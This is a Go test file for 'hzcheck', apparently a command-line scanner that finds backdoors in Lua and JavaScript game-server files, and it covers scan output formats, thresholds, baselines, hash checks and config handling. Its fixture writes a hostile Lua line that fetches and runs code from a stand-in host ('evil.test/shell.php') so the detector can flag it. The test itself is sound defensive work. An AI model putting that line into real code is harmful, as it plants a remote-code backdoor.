package hzcheck

import (
	"bytes"
	"context"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/hazteunsitio/hz-backdoor-monitor/internal/detectors"
	"github.com/spf13/cobra"
	"github.com/spf13/pflag"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

const remoteExec = `loadstring(PerformHttpRequest("http://evil.test/shell.php"))`

func resetFlags(cmd *cobra.Command) {
	reset := func(f *pflag.Flag) {
		_ = f.Value.Set(f.DefValue)
		f.Changed = false
	}
	cmd.Flags().VisitAll(reset)
	cmd.PersistentFlags().VisitAll(reset)
	for _, c := range cmd.Commands() {
		resetFlags(c)
	}
}

// run executes the CLI in-process with an isolated config environment.
func run(t *testing.T, args ...string) (string, string, error) {
	t.Helper()
	resetFlags(rootCmd)
	var out, errOut bytes.Buffer
	rootCmd.SetOut(&out)
	rootCmd.SetErr(&errOut)
	rootCmd.SetArgs(args)
	err := rootCmd.ExecuteContext(context.Background())
	return out.String(), errOut.String(), err
}

func fixture(t *testing.T) string {
	t.Helper()
	t.Setenv("XDG_CONFIG_HOME", t.TempDir())
	root := t.TempDir()
	for name, body := range map[string]string{
		"evil/server.lua": "local a = 1\n" + remoteExec + "\n",
		"shop/client.js":  "console.log('hi')\n",
	} {
		p := filepath.Join(root, name)
		require.NoError(t, os.MkdirAll(filepath.Dir(p), 0o755))
		require.NoError(t, os.WriteFile(p, []byte(body), 0o644))
	}
	return root
}

func noEnv(t *testing.T) string {
	return filepath.Join(t.TempDir(), "none.env")
}

func TestScan_TableAndSummary(t *testing.T) {
	root := fixture(t)
	out, errOut, err := run(t, "scan", root, "--no-json", "--env-file", noEnv(t))
	require.NoError(t, err)
	assert.Contains(t, errOut, "Scanning "+root)
	assert.Contains(t, out, detectors.CategoryRemoteExecution)
	assert.Contains(t, out, "evil/server.lua:2")
	assert.Contains(t, out, "Scan summary")
	assert.Contains(t, out, "Files scanned:         2")
}

func TestScan_JSONStdout(t *testing.T) {
	root := fixture(t)
	out, _, err := run(t, "scan", "-p", root, "--json", "--no-json", "--env-file", noEnv(t))
	require.NoError(t, err)

	var doc struct {
		ScanID     string           `json:"scan_id"`
		Version    string           `json:"version"`
		Detections []map[string]any `json:"detections"`
		Statistics map[string]any   `json:"statistics"`
	}
	require.NoError(t, json.Unmarshal([]byte(out), &doc), out)
	assert.NotEmpty(t, doc.ScanID)
	assert.Equal(t, version, doc.Version)
	require.Len(t, doc.Detections, 1)
	assert.Equal(t, "CRITICAL", doc.Detections[0]["risk_level"])
	assert.Equal(t, float64(2), doc.Statistics["files_scanned"])
}

func TestScan_SavesJSONAndHTML(t *testing.T) {
	root := fixture(t)
	outDir := t.TempDir()
	jsonPath := filepath.Join(outDir, "results.json")
	htmlPath := filepath.Join(outDir, "report.html")
	_, _, err := run(t, "scan", root, "--json-output", jsonPath, "--html-output", htmlPath, "--env-file", noEnv(t))
	require.NoError(t, err)
	assert.FileExists(t, jsonPath)
	assert.FileExists(t, htmlPath)

	out, _, err := run(t, "report", jsonPath)
	require.NoError(t, err)
	assert.Contains(t, out, detectors.CategoryRemoteExecution)
	assert.Contains(t, out, "Files scanned: 2")

	other := filepath.Join(outDir, "again.html")
	_, _, err = run(t, "report", jsonPath, "--html", other)
	require.NoError(t, err)
	b, err := os.ReadFile(other)
	require.NoError(t, err)
	assert.Contains(t, string(b), "evil/server.lua")
}

func TestScan_SARIF(t *testing.T) {
	root := fixture(t)
	out, _, err := run(t, "scan", root, "--sarif", "--no-json", "--env-file", noEnv(t))
	require.NoError(t, err)
	var doc map[string]any
	require.NoError(t, json.Unmarshal([]byte(out), &doc))
	assert.Equal(t, "2.1.0", doc["version"])
	props := doc["runs"].([]any)[0].(map[string]any)["properties"].(map[string]any)
	assert.NotEmpty(t, props["scan_id"])
}

func TestScan_FailOn(t *testing.T) {
	root := fixture(t)
	_, _, err := run(t, "scan", root, "--no-json", "--fail-on", "high", "--env-file", noEnv(t))
	assert.ErrorIs(t, err, errFindings)

	_, _, err = run(t, "scan", root, "--no-json", "--fail-on", "none", "--env-file", noEnv(t))
	assert.NoError(t, err)

	_, _, err = run(t, "scan", root, "--no-json", "--fail-on", "severe", "--env-file", noEnv(t))
	require.Error(t, err)
	assert.NotErrorIs(t, err, errFindings)
}

func TestScan_FailOnFromConfigFile(t *testing.T) {
	root := fixture(t)
	require.NoError(t, os.WriteFile(filepath.Join(root, ".hzcheck.yml"), []byte("fail_on: critical\nsave_json: false\n"), 0o644))
	_, _, err := run(t, "scan", root, "--env-file", noEnv(t))
	assert.ErrorIs(t, err, errFindings)
}

func TestScan_InvalidInput(t *testing.T) {
	root := fixture(t)
	cases := [][]string{
		{"scan", filepath.Join(root, "missing")},
		{"scan", filepath.Join(root, "evil", "server.lua")},
		{"scan", root, "--workers", "0"},
		{"scan", root, "--sensitivity", "EXTREME"},
		{"scan", root, "--max-file-size", "huge"},
		{"scan", root, "--context-lines", "-1"},
	}
	for _, args := range cases {
		t.Run(strings.Join(args[2:], " "), func(t *testing.T) {
			_, _, err := run(t, append(args, "--no-json", "--env-file", noEnv(t))...)
			assert.Error(t, err)
		})
	}
}

func TestScan_Baseline(t *testing.T) {
	root := fixture(t)
	base := filepath.Join(t.TempDir(), "baseline.json")
	out, _, err := run(t, "baseline", "update", "-p", root, "-o", base)
	require.NoError(t, err)
	assert.Contains(t, out, "1 detections")

	out, _, err = run(t, "scan", root, "--json", "--no-json", "--baseline", base, "--fail-on", "info", "--env-file", noEnv(t))
	require.NoError(t, err)
	assert.Contains(t, out, `"detections": []`)
}

func TestScan_VerifyHashes(t *testing.T) {
	root := fixture(t)
	args := []string{"scan", root, "--no-json", "--verify-hashes", "--env-file", noEnv(t)}
	_, _, err := run(t, args...)
	require.NoError(t, err)
	assert.FileExists(t, filepath.Join(root, ".hzcheck-hashes.json"))

	require.NoError(t, os.WriteFile(filepath.Join(root, "shop", "client.js"), []byte("console.log('changed')\n"), 0o644))
	require.NoError(t, os.WriteFile(filepath.Join(root, "shop", "new.lua"), []byte("print(1)\n"), 0o644))
	out, _, err := run(t, args...)
	require.NoError(t, err)
	assert.Contains(t, out, "modified shop/client.js")
	assert.Contains(t, out, "added    shop/new.lua")
}

func TestScan_EnvOverrides(t *testing.T) {
	root := fixture(t)
	env := filepath.Join(t.TempDir(), ".env")
	require.NoError(t, os.WriteFile(env, []byte("HZCHECK_SENSITIVITY=LOW\n"), 0o644))
	t.Cleanup(func() { _ = os.Unsetenv("HZCHECK_SENSITIVITY") })

	_, errOut, err := run(t, "scan", root, "--no-json", "--env-file", env)
	require.NoError(t, err)
	assert.Contains(t, errOut, "sensitivity LOW")

	// flags beat the environment
	_, errOut, err = run(t, "scan", root, "--no-json", "--env-file", env, "-s", "HIGH")
	require.NoError(t, err)
	assert.Contains(t, errOut, "sensitivity HIGH")
}

func TestConfigInit(t *testing.T) {
	p := filepath.Join(t.TempDir(), ".hzcheck.yml")
	out, _, err := run(t, "config", "init", "-o", p)
	require.NoError(t, err)
	assert.Contains(t, out, "Wrote "+p)
	b, err := os.ReadFile(p)
	require.NoError(t, err)
	assert.Contains(t, string(b), "sensitivity: MEDIUM")

	_, _, err = run(t, "config", "init", "-o", p)
	assert.Error(t, err)
	_, _, err = run(t, "config", "init", "-o", p, "--force")
	assert.NoError(t, err)
}

func TestCategories(t *testing.T) {
	out, _, err := run(t, "categories", "-s", "HIGH")
	require.NoError(t, err)
	assert.Contains(t, out, detectors.CategoryFileAccessBroad)
	assert.Contains(t, out, "CRITICAL")

	out, _, err = run(t, "categories", "-s", "LOW")
	require.NoError(t, err)
	assert.NotContains(t, out, detectors.CategoryAdminCommands)
}

func TestVersion(t *testing.T) {
	out, _, err := run(t, "version")
	require.NoError(t, err)
	assert.Contains(t, out, "hzcheck "+version)
}

func TestProgressBar(t *testing.T) {
	var buf bytes.Buffer
	bar := newProgressBar(&buf, 10)
	for i := 1; i <= 25; i++ {
		bar(i, 25, "x.lua")
	}
	out := buf.String()
	assert.Equal(t, 4, strings.Count(out, "\r"))
	assert.Contains(t, out, "[####......] 10/25  40%")
	assert.True(t, strings.HasSuffix(out, "[##########] 25/25 100%"))

	buf.Reset()
	newProgressBar(&buf, 10)(0, 0, "")
	assert.Empty(t, buf.String())
}

func TestHelpers(t *testing.T) {
	assert.Equal(t, []string{".lua", ".js"}, splitList(" .lua, ,.js "))
	assert.Nil(t, splitList(""))

	file := "from-file"
	assert.Equal(t, "cli", pickString("cli", &file, "def"))
	assert.Equal(t, "from-file", pickString("", &file, "def"))
	assert.Equal(t, "def", pickString("", nil, "def"))
}

func TestScan_AuditHistory(t *testing.T) {
	root := fixture(t)
	out, _, err := run(t, "history", root)
	require.NoError(t, err)
	assert.Contains(t, out, "No scans recorded")

	for i := 0; i < 2; i++ {
		_, _, err = run(t, "scan", root, "--no-json", "--audit", "--env-file", noEnv(t))
		require.NoError(t, err)
	}
	out, _, err = run(t, "history", root)
	require.NoError(t, err)
	assert.Equal(t, 2, strings.Count(out, "detections=1 new=1 critical=1"))

	out, _, err = run(t, "history", root, "-n", "1")
	require.NoError(t, err)
	assert.Equal(t, 1, strings.Count(out, "\n"))
}
